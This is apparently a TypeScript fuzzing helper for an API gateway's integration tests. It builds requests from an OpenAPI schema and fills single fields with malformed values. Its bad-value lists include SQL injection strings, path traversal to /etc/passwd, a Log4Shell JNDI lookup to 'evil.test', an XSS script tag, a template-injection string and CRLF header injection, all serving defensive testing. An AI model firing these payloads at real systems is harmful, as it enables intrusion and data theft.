import type { InjectOptions } from 'fastify';

/**
 * Requests generated from an OpenAPI document for fuzzing (test/gateway-fuzz.int.test.ts):
 * a valid-looking base request per operation, and mutations that put one class of bad
 * value (wrong types, missing/extra fields, NUL, lone surrogates, emoji, huge strings, deep
 * nesting, out-of-range numbers and dates, injection-like strings, path traversal, bad
 * percent-encoding, crafted cursors) into one slot: a path or query parameter or a body field.
 */

// ---------------------------------------------------------------------------------------
// The OpenAPI document, reduced to what the fuzzer needs

export interface Schema {
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  default?: unknown;
  nullable?: boolean;
  minimum?: number;
  minLength?: number;
  minItems?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  items?: Schema;
  anyOf?: Schema[];
  oneOf?: Schema[];
}
export interface Parameter { in: 'path' | 'query' | 'header'; name: string; required?: boolean; schema: Schema }
export interface OpenApi { paths: Record<string, Record<string, { parameters?: Parameter[]; requestBody?: { content?: Record<string, { schema: Schema }> } }>> }

export interface Operation {
  method: string;
  path: string;
  params: Parameter[];
  query: Parameter[];
  body: Schema | undefined;
}

export function operations(spec: OpenApi): Operation[] {
  const ops: Operation[] = [];
  for (const [path, byMethod] of Object.entries(spec.paths)) {
    for (const [method, op] of Object.entries(byMethod)) {
      ops.push({
        method: method.toUpperCase(),
        path,
        params: (op.parameters ?? []).filter((p) => p.in === 'path'),
        query: (op.parameters ?? []).filter((p) => p.in === 'query'),
        body: op.requestBody?.content?.['application/json']?.schema,
      });
    }
  }
  return ops;
}

// ---------------------------------------------------------------------------------------
// Valid-looking base requests (so that a bad value in one slot meets otherwise good input)

let seq = 0;
export const FIXED_UUID = '3f1c2e4d-5a6b-4c7d-8e9f-0a1b2c3d4e5f';

/** Sample values by field name (patterns in the document are not generated from). */
export function hint(name: string, where: 'path' | 'query' | 'body', op: Operation): unknown {
  switch (name) {
    case 'externalId': case 'targetUserId': case 'userId': return 'fuzz-user';
    case 'id': return `fuzz-${++seq}`;
    case 'type': case 'eventType': return 'fuzz.event';
    case 'key': return where === 'path' ? 'task_reminder' : `fuzz_${++seq}`;
    case 'phone': return op.path.includes('verification') ? '+15005550006' : '+14155550100';
    case 'code': return '123456';
    case 'quietHoursStart': return '22:00';
    case 'quietHoursEnd': return '07:00';
    case 'timezone': return 'UTC';
    case 'locale': return 'en-US';
    case 'text': case 'template': return 'Hello {{name}}';
    case 'name': return 'Fuzz';
    case 'requiredVars': return [];
    case 'cursor': return undefined;
    case 'vars': case 'sampleVars': return { name: 'Ann' };
    case 'payload': return { task_name: 'Fuzz', n: 1 };
    default: return undefined;
  }
}

export function sample(schema: Schema, name: string, where: 'path' | 'query' | 'body', op: Operation): unknown {
  const variant = schema.anyOf?.find((s) => s.type !== 'null') ?? schema.oneOf?.find((s) => s.type !== 'null');
  if (variant) return sample(variant, name, where, op);
  if (schema.format === 'uuid') return FIXED_UUID;
  if (schema.format === 'date-time') return '2026-01-01T00:00:00.000Z';
  if (schema.enum) return schema.enum[0];
  const hinted = hint(name, where, op);
  if (hinted !== undefined || name === 'cursor') return hinted;
  if (schema.default !== undefined) return schema.default;
  const type = [schema.type].flat()[0];
  switch (type) {
    case 'string': return 'fuzz';
    case 'integer': case 'number': return Math.max(schema.minimum ?? 1, 1);
    case 'boolean': return true;
    case 'array': return schema.items && (schema.minItems ?? 0) > 0 ? [sample(schema.items, name, where, op)] : [];
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, s] of Object.entries(schema.properties ?? {})) {
        const v = sample(s, k, where, op);
        if (v !== undefined) out[k] = v;
      }
      return out;
    }
    default: return 'fuzz';
  }
}

export interface Req {
  op: Operation;
  /** Path parameter values (strings are percent-encoded; Raw values are sent as they are). */
  params: Record<string, unknown>;
  query: Record<string, unknown>;
  /** undefined = no body. */
  body: unknown;
  hasBody: boolean;
}

export function baseRequest(op: Operation): Req {
  const params: Record<string, unknown> = {};
  for (const p of op.params) params[p.name] = sample(p.schema, p.name, 'path', op);
  const query: Record<string, unknown> = {};
  for (const p of op.query) {
    const v = sample(p.schema, p.name, 'query', op);
    if (v !== undefined) query[p.name] = v;
  }
  return { op, params, query, body: op.body ? sample(op.body, '', 'body', op) : undefined, hasBody: Boolean(op.body) };
}

// ---------------------------------------------------------------------------------------
// Encoding: raw JSON tokens and raw URL text survive, lone surrogates are WTF-8 encoded

/** Text sent exactly as given: a JSON token in a body (1e400, deep nesting) or percent-encoded URL text. */
export class Raw {
  constructor(readonly text: string, readonly label = text.slice(0, 30)) {}
}
export const raw = (text: string, label?: string) => new Raw(text, label);

export function toJson(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_k, v: unknown) => {
    if (v instanceof Raw) {
      raws.push(v.text);
      return `\u0001RAW${raws.length - 1}\u0001`;
    }
    return v;
  });
  return (text ?? 'null').replace(/"\\u0001RAW(\d+)\\u0001"/g, (_m, i: string) => raws[Number(i)]!);
}

/** Percent-encodes every code point, lone surrogates included (as their 3-byte WTF-8 form). */
export function encodeUrlPart(value: unknown): string {
  if (value instanceof Raw) return value.text;
  const s = typeof value === 'string' ? value : JSON.stringify(value) ?? '';
  let out = '';
  for (const ch of s) {
    const cp = ch.codePointAt(0)!;
    if (/[A-Za-z0-9_.~-]/.test(ch)) {
      out += ch;
      continue;
    }
    const bytes = cp < 0x80 ? [cp]
      : cp < 0x800 ? [0xc0 | (cp >> 6), 0x80 | (cp & 63)]
        : cp < 0x10000 ? [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63)]
          : [0xf0 | (cp >> 18), 0x80 | ((cp >> 12) & 63), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63)];
    out += bytes.map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
  }
  return out;
}

export function toInject(r: Req, headers: Record<string, string>): InjectOptions {
  const path = r.op.path.replace(/\{(\w+)\}/g, (_m, name: string) => encodeUrlPart(r.params[name]));
  const query = Object.entries(r.query).flatMap(([k, v]) => (Array.isArray(v) ? v : [v]).map((item) => `${encodeUrlPart(k)}=${encodeUrlPart(item)}`)).join('&');
  const url = query ? `${path}?${query}` : path;
  const options: InjectOptions = { method: r.op.method as InjectOptions['method'], url, headers };
  if (r.hasBody) {
    options.payload = toJson(r.body);
    options.headers = { ...options.headers, 'content-type': 'application/json' };
  }
  return options;
}

// ---------------------------------------------------------------------------------------
// The bad values

export const deepArrays = raw(`${'['.repeat(10_000)}${']'.repeat(10_000)}`, 'array nested 10,000 deep');
export const deepObjects = raw(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, 'object nested 10,000 deep');
export const cursorOf = (text: string) => Buffer.from(text, 'utf8').toString('base64url');

export const BAD_STRINGS: unknown[] = [
  '\u0000', 'a\u0000b', '\uD800', 'x\uDC00y', 'a\uDBFF',
  '😀🔥👍🏽', '🧑‍🤝‍🧑',
  "'; DROP TABLE users;--", "' OR '1'='1", '../../etc/passwd', '..\\..\\windows\\win.ini', '${jndi:ldap://evil.test/x}',
  '<script>alert(1)</script>', '{{constructor.constructor("return process")()}}', '\r\nX-Injected: 1', '%00', ' ', '',
  '0000-01-01T00:00:00Z', '0000-12-31T23:59:59.999Z', '0001-01-01T00:00:00+14:00', '9999-12-31T23:59:59-14:00',
  '+275760-09-13T00:00:00.000Z', '-000001-01-01T00:00:00Z', '2026-02-30T00:00:00Z', '99999-01-01T00:00:00Z',
];
export const WRONG_TYPES: unknown[] = [12345, -1, 0, 1.5, 1e308, Number.MAX_SAFE_INTEGER + 2, true, false, null, [], ['a'], {}, { a: 1 }, 'true', 'null', '-1'];
export const RAW_NUMBERS: Raw[] = [raw('1e400'), raw('-1e400'), raw('1e-400'), raw('-0'), raw('123456789012345678901234567890')];
export const HUGE = (where: 'url' | 'body') => 'x'.repeat(where === 'body' ? 100_000 : 3_000);
/** Percent-encoded URL text: bad encodings, an encoded lone surrogate, encoded NUL and traversal. */
export const RAW_URL: Raw[] = [raw('%zz'), raw('%'), raw('%E0%A4%A'), raw('%ED%A0%80'), raw('%C0%AF'), raw('%00'), raw('a%00b'), raw('%F0%9F%98%80'), raw('..%2F..%2Fetc%2Fpasswd'), raw('%2e%2e')];
export const CURSORS: unknown[] = [
  cursorOf(`0000-01-01T00:00:00.000Z|${FIXED_UUID}`),
  cursorOf(`+275760-09-13T00:00:00.000Z|${FIXED_UUID}`),
  cursorOf(`2026-01-01T00:00:00.000Z|${'-'.repeat(36)}`),
  cursorOf(`2026-02-30T00:00:00.000Z|${FIXED_UUID}`),
  cursorOf(`2026-01-01T00:00:00.000Z|${FIXED_UUID}\u0000`),
  cursorOf(`2026-01-01T00:00:00.000Z|'; DROP TABLE users;--`),
  'not!base64', '====',
];

export interface Mutation { slot: string; label: string; apply(r: Req): void }

export const label = (v: unknown) => (v instanceof Raw ? `raw:${v.label}` : typeof v === 'string' ? JSON.stringify(v.length > 30 ? `${v.slice(0, 30)}…(${v.length})` : v) : JSON.stringify(v) ?? String(v));

/** The JSON paths of a body worth mutating: every property, down to three levels. */
export function bodyPaths(value: unknown, path: string[] = [], out: string[][] = []): string[][] {
  if (path.length >= 3 || value === null || typeof value !== 'object') return out;
  for (const [k, v] of Object.entries(value)) {
    out.push([...path, k]);
    bodyPaths(v, [...path, k], out);
  }
  return out;
}

export function setAt(target: unknown, path: string[], value: unknown, remove = false) {
  let node = target as Record<string, unknown>;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string, unknown>;
  const last = path[path.length - 1]!;
  if (remove) delete node[last];
  else node[last] = value;
}

export const clone = (r: Req): Req => ({ ...r, params: { ...r.params }, query: { ...r.query }, body: r.body === undefined ? undefined : structuredClone(r.body) });

export function mutations(op: Operation): Mutation[] {
  const out: Mutation[] = [];
  const values = (where: 'url' | 'body') => [...BAD_STRINGS, HUGE(where), ...WRONG_TYPES, ...(where === 'url' ? RAW_URL : [...RAW_NUMBERS, deepArrays, deepObjects])];
  for (const p of op.params) {
    for (const v of values('url')) out.push({ slot: `params.${p.name}`, label: label(v), apply: (r) => { r.params[p.name] = v; } });
  }
  for (const p of op.query) {
    const vs = [...values('url'), ...(p.name === 'cursor' ? CURSORS : []), ['a', 'b']];
    for (const v of vs) out.push({ slot: `querystring.${p.name}`, label: label(v), apply: (r) => { r.query[p.name] = v; } });
  }
  if (op.query.length > 0) out.push({ slot: 'querystring', label: 'extra parameter', apply: (r) => { r.query.__fuzz = 'x\u0000'; } });
  if (op.body) {
    const base = baseRequest(op).body;
    for (const path of bodyPaths(base)) {
      const slot = `body.${path.join('.')}`;
      for (const v of values('body')) out.push({ slot, label: label(v), apply: (r) => setAt(r.body, path, v) });
      out.push({ slot, label: 'missing', apply: (r) => setAt(r.body, path, undefined, true) });
    }
    // Free-form JSON objects (event payload, template vars): bad content and bad keys inside.
    for (const path of bodyPaths(base).filter((p) => ['payload', 'vars', 'sampleVars'].includes(p[p.length - 1]!))) {
      const slot = `body.${path.join('.')}`;
      const inside: Record<string, unknown>[] = [
        { k: 'a\u0000b' }, { k: ['ok', { deeper: '\uD83D' }] }, { 'a\u0000': 1 }, { '\uDC00': 1 }, { k: deepArrays }, { k: deepObjects }, { k: raw('1e400') },
        { '': 1, ' ': 2, '__proto__x': 3, constructor: 'x' }, { emoji: '😀'.repeat(1000) },
      ];
      for (const v of inside) out.push({ slot, label: `contains ${label(v)}`, apply: (r) => setAt(r.body, path, v) });
    }
    for (const v of [...WRONG_TYPES, deepArrays, deepObjects, 'a\u0000b', '\uD800']) out.push({ slot: 'body', label: label(v), apply: (r) => { r.body = v; } });
    out.push({ slot: 'body', label: 'extra field', apply: (r) => { if (r.body && typeof r.body === 'object') (r.body as Record<string, unknown>).__fuzz_extra = 'x'; } });
    out.push({ slot: 'body', label: 'extra field with NUL', apply: (r) => { if (r.body && typeof r.body === 'object') (r.body as Record<string, unknown>)['x\u0000'] = 1; } });
    out.push({ slot: 'body', label: 'absent', apply: (r) => { r.hasBody = false; } });
  }
  return out;
}
